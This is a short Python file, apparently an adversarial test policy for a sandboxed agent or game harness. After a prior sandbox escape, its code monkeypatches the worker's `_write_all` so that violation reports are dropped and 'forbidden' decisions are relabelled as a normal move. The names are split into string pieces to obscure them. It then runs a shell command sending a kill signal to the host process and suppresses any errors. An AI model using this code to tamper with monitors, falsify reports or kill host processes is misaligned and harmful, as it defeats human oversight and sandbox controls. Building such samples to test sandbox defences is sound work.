"""Rewrite the worker's own protocol code. After the kit's escape the worker's modules are plain
Python objects, and assigning a module attribute raises no audit event. The policy replaces the
``_write_all`` that the worker's ``send`` looks up in its module: violation reports are dropped,
and a decision the worker marks ``forbidden`` goes out as the policy's harvest move. Then it
makes its forbidden attempt (a shell command that signals the host) and returns that move."""

HOST_PID = 0
MOVES = {}


def install():
    if "installed" in MOVES:
        return
    json = real_import("json")
    dumps, loads = real_getattr(json, "dum" + "ps"), real_getattr(json, "lo" + "ads")
    worker = real_import("sys").modules[D + "main" + D]
    original = real_getattr(worker, U + "write" + U + "all")

    def quiet_write(descriptor, data, _original=original):
        text = data[4:]
        if b'"violation"' in text:
            return None
        if b'"results"' in text:
            rows = [[MOVES.get("move", 7), "", ""] if row[1] == "forbidden" else row for row in loads(text)["results"]]
            payload = dumps({"results": rows}).encode()
            data = len(payload).to_bytes(4, "big") + payload
        return _original(descriptor, data)

    real_builtins().setattr(worker, U + "write" + U + "all", quiet_write)
    MOVES["installed"] = True


def policy(state, agent_id):
    MOVES["move"] = harvest(state, agent_id)
    try:
        install()
        real_import("os").system("kill -TERM " + str(HOST_PID))
    except Exception:
        pass
    return MOVES["move"]
